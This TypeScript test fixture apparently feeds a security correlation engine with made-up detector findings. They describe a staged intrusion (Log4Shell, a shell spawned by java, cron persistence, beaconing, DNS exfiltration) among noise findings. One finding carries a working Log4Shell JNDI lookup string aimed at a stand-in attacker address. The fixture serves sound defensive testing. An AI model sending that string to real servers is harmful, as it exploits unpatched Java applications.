import { microsPerHour, microsPerMinute, parseIsoMicros } from '../../base/time.ts';
import { stableId } from '../../base/id.ts';
import type { Entity, EntityKind } from '../../events/entity.ts';
import type { Finding } from '../../events/finding.ts';
import type { CorrelationContext } from '../context.ts';

/** Made-up findings, as detectors of every family write them: network ones know addresses, host ones know names. */
const resolver = '10.1.0.53';
export const proxy = '10.1.0.80';
export const dayStart = parseIsoMicros('2026-11-24T10:00:00Z') ?? 0;
export const minutes = (count: number): number => dayStart + count * microsPerMinute;

export function entities(...pairs: readonly (readonly [EntityKind, string])[]): Entity[] {
  return pairs.map(([kind, value]) => ({ kind, value }));
}

export function finding(part: Partial<Finding> & Pick<Finding, 'detector' | 'title'>): Finding {
  const first = part.first_seen ?? dayStart;
  return {
    severity: 'medium',
    score: 0.8,
    entities: [],
    attack: [],
    reasons: [],
    evidence: [{ evidence_id: 1, at: 1 }],
    count: 1,
    vanishes: '',
    next: '',
    first_seen: first,
    last_seen: part.last_seen ?? first,
    id: stableId('f-', [part.detector, part.title, JSON.stringify(part.entities ?? []), String(first)]),
    ...part,
  };
}

export interface Victim {
  readonly name: string;
  readonly address: string;
  readonly container: string;
}
export const web01: Victim = { name: 'web01', address: '10.1.2.3', container: '3f2a9c81d7e4' };
export const shop07: Victim = { name: 'shop07', address: '10.1.2.77', container: 'b81c0d92aa10' };

export interface Attacker {
  readonly source: string;
  readonly address: string;
  readonly domain: string;
}
export const redAttacker: Attacker = { source: '192.0.2.99', address: '203.0.113.7', domain: 'x.evil.example' };
export const blueAttacker: Attacker = { source: '192.0.2.14', address: '198.51.100.44', domain: 'cdn.bad.example' };

/** Exploit string, look-up, child of java, cron file, beacon, DNS exfiltration over a day: two of ten sensors know the name of the host. */
export function intrusion(victim: Victim, attacker: Attacker, start = dayStart): Finding[] {
  const at = (count: number): number => start + count * microsPerMinute;
  const net: readonly [EntityKind, string] = ['host', victim.address];
  const host: readonly [EntityKind, string] = ['host', victim.name];
  return [
    finding({
      detector: 'analytics/log4shell',
      title: 'JNDI look-up string in an HTTP request',
      severity: 'high',
      score: 0.9,
      first_seen: at(0),
      entities: entities(net, ['address', attacker.source], ['vulnerability', 'CVE-2021-44228']),
      attack: ['T1190'],
      reasons: [{ what: 'exploit string', value: `\${jndi:ldap://${attacker.address}:1389/a}` }],
      next: 'Read the request and the answer.',
    }),
    finding({
      detector: 'analytics/log4shell',
      title: 'Server asked an outside LDAP server for an object',
      severity: 'high',
      score: 0.95,
      first_seen: at(0.1),
      entities: entities(net, ['address', attacker.address]),
      attack: ['T1190'],
    }),
    finding({
      detector: 'rules/falco/Java started a shell',
      title: 'java started /bin/sh',
      severity: 'high',
      first_seen: at(0.2),
      entities: entities(host, ['process', `${victim.name}/4711/sh`], ['container', victim.container]),
      attack: ['T1059.004'],
      evidence: [{ evidence_id: 2, at: 17 }],
    }),
    finding({
      detector: 'persistence/cron',
      title: 'Cron file with a download from the network',
      severity: 'high',
      first_seen: at(4),
      entities: entities(host, ['file', `${victim.name}:/etc/cron.d/sync`]),
      attack: ['T1053.003'],
      evidence: [{ evidence_id: 2, at: 40 }],
    }),
    finding({
      detector: 'analytics/beacon',
      title: 'Beacon every 60 s',
      severity: 'medium',
      score: 0.93,
      first_seen: at(9),
      last_seen: start + 24 * microsPerHour,
      count: 1431,
      entities: entities(net, ['address', attacker.address]),
      attack: ['T1071.001'],
      reasons: [{ what: 'interval regularity', value: '0.98', weight: 0.25 }],
      next: 'Find the process behind the connection.',
    }),
    finding({
      detector: 'analytics/dns-tunnel',
      title: `Data in DNS names of ${attacker.domain}`,
      severity: 'high',
      first_seen: at(95),
      last_seen: start + 24 * microsPerHour,
      count: 5210,
      entities: entities(net, ['domain', attacker.domain], ['address', resolver]),
      attack: ['T1048.003'],
      evidence: [{ evidence_id: 3, at: 2 }],
    }),
  ];
}

/** What every network says all day: low findings over 40 hosts, the victims among them. */
export function noise(count = 200, hosts = 40): Finding[] {
  const titles = ['First contact with a domain', 'Rare user agent', 'Self-signed certificate', 'Unusual port'];
  return Array.from({ length: count }, (_none, index) => {
    const host = index % hosts;
    return finding({
      detector: `analytics/${['first-seen', 'rare-agent', 'self-signed', 'odd-port'][index % 4] ?? ''}`,
      title: titles[index % 4] ?? '',
      severity: index % 5 === 0 ? 'info' : 'low',
      score: 0.3,
      first_seen: minutes((index * 7919) % 1440),
      entities: entities(
        ['host', `10.1.2.${host === 0 ? 3 : host + 37}`],
        ['domain', `cdn${index % 23}.shop.example`],
        ['address', resolver],
      ),
      attack: index % 2 === 0 ? ['T1071.001'] : [],
    });
  });
}

/** A network of 40 hosts whose resolver and proxy everybody uses; the victims' names are known. */
export const context: CorrelationContext = {
  lastEventTime: minutes(24 * 60),
  prevalence: ({ kind, value }) => {
    if (kind !== 'address' && kind !== 'domain') return undefined;
    return { hosts: value === resolver || value === proxy ? 40 : 1, totalHosts: 40 };
  },
  aliases: (value) => {
    const victim = [web01, shop07].find((one) => one.address === value || one.name === value);
    return victim === undefined ? [] : [victim.name, victim.address];
  },
  evidenceSource: (id) => ['zeek', 'falco-json', 'suricata-eve'][id - 1],
};
